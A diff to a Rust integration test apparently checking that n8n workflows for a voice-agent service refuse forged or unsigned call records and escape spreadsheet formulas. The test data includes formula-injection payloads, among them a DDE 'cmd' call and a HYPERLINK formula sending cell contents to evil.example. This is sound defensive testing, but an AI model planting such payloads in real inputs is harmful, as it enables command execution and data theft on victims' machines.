@@ -1,6 +1,8 @@
 //! The workflows in `n8n/` on a real n8n, the one users run: the worker's profile store reads the
-//! shipped profiles from it, and call records from the outbox are stored once each, through an
-//! n8n outage and resends.
+//! shipped profiles from it; call records from the outbox are stored once each, through an n8n
+//! outage and resends; with a secret, only records signed with it are stored; a record n8n cannot
+//! store is answered with an error, never a 2xx; and the rows meant for spreadsheets hold text,
+//! never formulas.
 //!
 //! The mocks of n8n elsewhere are only as right as our reading of n8n; this is where the workflows
 //! users import are checked against n8n itself. `scripts/n8n.sh` installs n8n 1.123 once into a
@@ -15,8 +17,10 @@ use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
+use hmac::{Hmac, Mac};
 use reqwest::StatusCode;
 use serde_json::{Value, json};
+use sha2::Sha256;
 use url::Url;
 use voice_agent::config::Secret;
 use voice_agent::profiles::{AgentProfile, ProfileError, ProfileStore};
@@ -33,8 +37,11 @@ const SHUTDOWN_LIMIT: Duration = Duration::from_secs(30);
 const AGENT_CONFIG: &str = "webhook/agent-config";
 const LEAD_CAPTURE: &str = "webhook/lead-capture";
 
+/// The worker's N8N_WEBHOOK_SECRET, given to n8n as LEAD_CAPTURE_SECRET.
+const SECRET: &str = "whsec_real_n8n_test";
+
 #[tokio::test]
-async fn the_shipped_workflows_serve_profiles_and_store_each_call_record_once() {
+async fn the_shipped_workflows_serve_profiles_and_store_each_signed_call_record_once() {
     install_n8n().await;
     let scratch = tempfile::tempdir().expect("temp dir");
     let mut n8n = N8n::new(scratch.path());
@@ -43,6 +50,10 @@ async fn the_shipped_workflows_serve_profiles_and_store_each_call_record_once() 
     the_shipped_profiles_come_from_n8n(&n8n, scratch.path()).await;
     bad_records_are_refused_naming_the_field(&n8n).await;
     records_are_stored_once_through_an_outage_and_resends(&mut n8n, scratch.path()).await;
+    unsigned_and_forged_records_are_refused(&n8n).await;
+    a_record_n8n_cannot_store_is_answered_with_an_error(&n8n).await;
+    spreadsheet_rows_hold_text_not_formulas(&n8n).await;
+    without_a_secret_unsigned_records_are_stored(&mut n8n).await;
 }
 
 async fn the_shipped_profiles_come_from_n8n(n8n: &N8n, scratch: &Path) {
@@ -104,9 +115,9 @@ async fn records_are_stored_once_through_an_outage_and_resends(n8n: &mut N8n, sc
         timeout: Duration::from_secs(10),
         first_retry: Duration::from_millis(200),
         max_retry: Duration::from_secs(1),
-        ..OutboxConfig::new(spool.clone(), Some(url), Some(Secret::new("whsec_real_n8n_test")))
+        ..OutboxConfig::new(spool.clone(), Some(url), Some(Secret::new(SECRET)))
     };
-    let outbox = Outbox::start(config, reqwest::Client::new()).await.unwrap_or_else(|e| panic!("outbox starts: {e}"));
+    let outbox = Outbox::start(config).await.unwrap_or_else(|e| panic!("outbox starts: {e}"));
 
     let first = call_record("AJ_n8n_first", "Asha Verma", "9876543210");
     outbox.submit("AJ_n8n_first", first.clone()).await.expect("submitted");
@@ -150,6 +161,108 @@ async fn records_are_stored_once_through_an_outage_and_resends(n8n: &mut N8n, sc
     outbox.close(Instant::now() + Duration::from_secs(5)).await;
 }
 
+async fn unsigned_and_forged_records_are_refused(n8n: &N8n) {
+    let real = call_record("AJ_n8n_forged", "Asha Verma", "9876543210");
+    // What a caller who guessed its call id would send first, to be stored in place of the real one.
+    let forged = call_record("AJ_n8n_forged", "Mallory", "9000000000");
+    let attempts = [
+        ("no signature", None),
+        ("a signature made with another secret", Some(signature("not the secret", &forged))),
+        ("the real record's signature on another body", Some(signature(SECRET, &real))),
+        ("an empty signature", Some(String::new())),
+        ("a bare hex signature", Some(signature(SECRET, &forged).replace("sha256=", ""))),
+    ];
+    for (what, signed) in attempts {
+        let (status, body) = post(n8n, Some("AJ_n8n_forged"), &forged, signed.as_deref()).await;
+        assert_eq!(status, StatusCode::UNAUTHORIZED, "a record with {what} is refused: {body}");
+        assert!(body["error"].as_str().is_some_and(|e| e.contains("X-Signature-256")), "{what}: {body}");
+    }
+    assert!(!n8n.stored().contains_key("AJ_n8n_forged"), "nothing forged is stored");
+
+    let (status, answer) = post_record(n8n, Some("AJ_n8n_forged"), &real).await;
+    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "the signed record is stored");
+    assert_eq!(n8n.stored().get("AJ_n8n_forged"), Some(&parse(&real)), "the real record, not the forgery");
+}
+
+async fn a_record_n8n_cannot_store_is_answered_with_an_error(n8n: &N8n) {
+    let record = call_record("AJ_n8n_unwritable", "Ravi Kumar", "9812345678");
+    let away = n8n.leads.with_extension("away");
+    std::fs::rename(&n8n.leads, &away).expect("the leads dir moves away");
+    let (status, answer) = post_record(n8n, Some("AJ_n8n_unwritable"), &record).await;
+    std::fs::rename(&away, &n8n.leads).expect("the leads dir comes back");
+    // n8n itself answers an empty 200 when a workflow fails before its answer, and the worker
+    // would then forget the record; the workflow must answer the failure.
+    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "not stored, so not a 2xx: {answer}");
+    assert!(answer["error"].as_str().is_some_and(|e| e.contains("not stored")), "{answer}");
+
+    let (status, answer) = post_record(n8n, Some("AJ_n8n_unwritable"), &record).await;
+    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "stored when the worker retries");
+    assert_eq!(n8n.stored().get("AJ_n8n_unwritable"), Some(&parse(&record)));
+}
+
+async fn spreadsheet_rows_hold_text_not_formulas(n8n: &N8n) {
+    let mut record = parse(&call_record("AJ_n8n_formulas", "+cmd|' /C calc'!A0", "+919876543210"));
+    record["lead"] = json!({
+        "patient_name": "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
+        "phone": "+919876543210",
+        "doctor": "@SUM(1,2)",
+        "preferred_time": "-2+3",
+        "reason": "  =1+1",
+        "notes": "\t=cmd",
+        "wide": "＝1+1",
+        "budget": "50 lakh - 1 crore",
+        "language": "hi",
+        "email": "asha@example.com",
+    });
+    let body = serde_json::to_vec(&record).expect("serialisable");
+    let (status, answer) = post_record(n8n, Some("AJ_n8n_formulas"), &body).await;
+    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})));
+    assert_eq!(n8n.stored().get("AJ_n8n_formulas"), Some(&record), "the record itself is stored as sent");
+
+    let row = n8n.sheet_row("AJ_n8n_formulas").await;
+    let expected = json!({
+        "call_id": "AJ_n8n_formulas",
+        "started_at": "2026-11-22T09:30:00.000Z",
+        "ended_at": "2026-11-22T09:32:41.500Z",
+        "duration_seconds": 161.5,
+        "agent_id": "clinic-hi",
+        "language": "hi-IN",
+        "caller_name": "'+cmd|' /C calc'!A0",
+        "end_reason": "caller_left",
+        "lead_missing": "",
+        "transcript": "agent: नमस्ते! शर्मा फैमिली क्लिनिक में आपका स्वागत है।\ncaller: मुझे कल सुबह डॉक्टर मीना शर्मा से मिलना है।",
+        "patient_name": "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
+        "phone": "'+919876543210",
+        "doctor": "'@SUM(1,2)",
+        "preferred_time": "'-2+3",
+        "reason": "'  =1+1",
+        "notes": "'\t=cmd",
+        "wide": "'＝1+1",
+        "budget": "50 lakh - 1 crore",
+        "lead_language": "hi",
+        "email": "asha@example.com",
+    });
+    assert_eq!(row, expected, "every text that a spreadsheet would run as a formula starts with an apostrophe");
+}
+
+async fn without_a_secret_unsigned_records_are_stored(n8n: &mut N8n) {
+    n8n.stop().await;
+    n8n.secret = None;
+    n8n.start().await;
+    let record = call_record("AJ_n8n_unsigned", "Meena Iyer", "9898989898");
+    let (status, answer) = post(n8n, Some("AJ_n8n_unsigned"), &record, None).await;
+    assert_eq!((status, &answer), (StatusCode::OK, &json!({"stored": true})), "no secret, no check");
+    assert_eq!(n8n.stored().get("AJ_n8n_unsigned"), Some(&parse(&record)));
+}
+
+/// `X-Signature-256` as the worker sends it.
+fn signature(secret: &str, body: &[u8]) -> String {
+    let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).expect("HMAC takes keys of any length");
+    mac.update(body);
+    let hex: String = mac.finalize().into_bytes().iter().map(|b| format!("{b:02x}")).collect();
+    format!("sha256={hex}")
+}
+
 /// A call record as the worker writes one (see src/pipeline/record.rs).
 fn call_record(call_id: &str, name: &str, phone: &str) -> Vec<u8> {
     let record = json!({
@@ -178,13 +291,22 @@ fn parse(body: &[u8]) -> Value {
     serde_json::from_slice(body).expect("valid JSON")
 }
 
+/// Posts a record as the worker does: signed when n8n has a secret.
 async fn post_record(n8n: &N8n, key: Option<&str>, body: &[u8]) -> (StatusCode, Value) {
+    let signed = n8n.secret.map(|secret| signature(secret, body));
+    post(n8n, key, body, signed.as_deref()).await
+}
+
+async fn post(n8n: &N8n, key: Option<&str>, body: &[u8], signature: Option<&str>) -> (StatusCode, Value) {
     let mut request = reqwest::Client::new()
         .post(n8n.url(LEAD_CAPTURE))
         .header("content-type", "application/json")
         .body(body.to_vec());
     if let Some(key) = key {
         request = request.header("idempotency-key", key);
+    }
+    if let Some(signature) = signature {
+        request = request.header("x-signature-256", signature);
     }
     let response = request.send().await.expect("n8n answers");
     let status = response.status();
@@ -237,11 +359,18 @@ async fn install_n8n() {
 
 /// n8n run by `scripts/n8n.sh serve` in a private user folder, in its own process group so that
 /// stopping it also stops its children; killed when dropped, also when a check panics.
+///
+/// It runs the shipped workflows with one addition, where a user would connect a Google Sheets
+/// node: after the lead-capture workflow's "Sheet row", two nodes write each row to `rows/`.
 struct N8n {
     base: Url,
     port: u16,
     home: PathBuf,
     leads: PathBuf,
+    rows: PathBuf,
+    workflows: PathBuf,
+    /// LEAD_CAPTURE_SECRET, from the next start on.
+    secret: Option<&'static str>,
     log: PathBuf,
     process: Option<Child>,
 }
@@ -253,15 +382,39 @@ impl N8n {
             .expect("a free loopback port")
             .port();
         let leads = scratch.join("leads");
-        std::fs::create_dir(&leads).expect("leads dir");
+        let rows = scratch.join("rows");
+        for dir in [&leads, &rows] {
+            std::fs::create_dir(dir).expect("a scratch dir");
+        }
+        let workflows = scratch.join("workflows");
+        write_workflows(&workflows, &rows);
         Self {
             base: format!("http://127.0.0.1:{port}/").parse().expect("valid URL"),
             port,
             home: scratch.join("n8n-home"),
             leads,
+            rows,
+            workflows,
+            secret: Some(SECRET),
             log: scratch.join("n8n.log"),
             process: None,
         }
+    }
+
+    /// The row "Sheet row" made for a record, once the nodes after it have written it.
+    async fn sheet_row(&self, key: &str) -> Value {
+        let path = self.rows.join(format!("{key}.json"));
+        let deadline = Instant::now() + DELIVERY_LIMIT;
+        while !path.is_file() {
+            assert!(
+                Instant::now() < deadline,
+                "no sheet row for {key} in {DELIVERY_LIMIT:?}; n8n's log:\n{}",
+                self.log_tail()
+            );
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let text = std::fs::read(&path).expect("the row is readable");
+        serde_json::from_slice(&text).unwrap_or_else(|e| panic!("{} holds JSON: {e}", path.display()))
     }
 
     fn url(&self, path: &str) -> Url {
@@ -282,11 +435,15 @@ impl N8n {
                     .filter_map(|name| std::env::var_os(name).map(|value| (*name, value))),
             )
             .env("N8N_USER_FOLDER", &self.home)
+            .env("N8N_WORKFLOWS_DIR", &self.workflows)
             .env("LEAD_CAPTURE_DIR", &self.leads)
             .stdin(Stdio::null())
             .stdout(log.try_clone().expect("log file"))
             .stderr(log)
             .process_group(0);
+        if let Some(secret) = self.secret {
+            command.env("LEAD_CAPTURE_SECRET", secret);
+        }
         self.process = Some(command.spawn().unwrap_or_else(|e| panic!("scripts/n8n.sh serve cannot run: {e}")));
 
         let http = reqwest::Client::new();
@@ -297,7 +454,11 @@ impl N8n {
             }
             let profile = http.get(self.url(&format!("{AGENT_CONFIG}?agent_id=default"))).send().await;
             // An empty object is not a record: once the workflow is active, it is refused with 400.
-            let record = http.post(self.url(LEAD_CAPTURE)).json(&json!({})).send().await;
+            let mut record = http.post(self.url(LEAD_CAPTURE)).header("content-type", "application/json").body("{}");
+            if let Some(secret) = self.secret {
+                record = record.header("x-signature-256", signature(secret, b"{}"));
+            }
+            let record = record.send().await;
             let answered =
                 |r: &Result<reqwest::Response, reqwest::Error>, code| r.as_ref().is_ok_and(|r| r.status() == code);
             if answered(&profile, StatusCode::OK) && answered(&record, StatusCode::BAD_REQUEST) {
@@ -354,6 +515,43 @@ impl Drop for N8n {
             let _ = process.wait();
         }
     }
+}
+
+/// The shipped workflows into `dir`, the lead-capture one with two nodes after "Sheet row" that
+/// write each row to `rows/<Idempotency-Key>.json`, as a spreadsheet node would receive it.
+fn write_workflows(dir: &Path, rows: &Path) {
+    std::fs::create_dir(dir).expect("workflows dir");
+    for file in ["agent-profiles.json", "lead-capture.json"] {
+        std::fs::copy(support::repo_path(&format!("n8n/{file}")), dir.join(file)).expect("workflow copied");
+    }
+    let path = dir.join("lead-capture.json");
+    let mut workflow: Value = serde_json::from_slice(&std::fs::read(&path).expect("readable")).expect("JSON");
+    let to_file = format!(
+        "return $input.all().map(({{ json }}) => ({{\n  json: {{ file: {rows:?} + '/' + json.key + '.json' }},\n  binary: {{ data: {{ data: Buffer.from(JSON.stringify(json.row)).toString('base64'), mimeType: 'application/json', fileName: json.key + '.json' }} }},\n}}));",
+        rows = rows.display().to_string()
+    );
+    let nodes = workflow["nodes"].as_array_mut().expect("nodes");
+    assert!(nodes.iter().any(|n| n["name"] == "Sheet row"), "the lead-capture workflow has a \"Sheet row\" node");
+    nodes.push(json!({
+        "parameters": {"jsCode": to_file},
+        "id": "7e57e57e-0000-4000-8000-000000000001",
+        "name": "Test: row as a file",
+        "type": "n8n-nodes-base.code",
+        "typeVersion": 2,
+        "position": [2640, -200],
+    }));
+    nodes.push(json!({
+        "parameters": {"operation": "write", "fileName": "={{ $json.file }}", "options": {}},
+        "id": "7e57e57e-0000-4000-8000-000000000002",
+        "name": "Test: write the row",
+        "type": "n8n-nodes-base.readWriteFile",
+        "typeVersion": 1,
+        "position": [2860, -200],
+    }));
+    let link = |node: &str| json!({"main": [[{"node": node, "type": "main", "index": 0}]]});
+    workflow["connections"]["Sheet row"] = link("Test: row as a file");
+    workflow["connections"]["Test: row as a file"] = link("Test: write the row");
+    std::fs::write(&path, serde_json::to_vec_pretty(&workflow).expect("serialisable")).expect("written");
 }
 
 /// Signals every process of the group `scripts/n8n.sh serve` leads: n8n and its task runners.
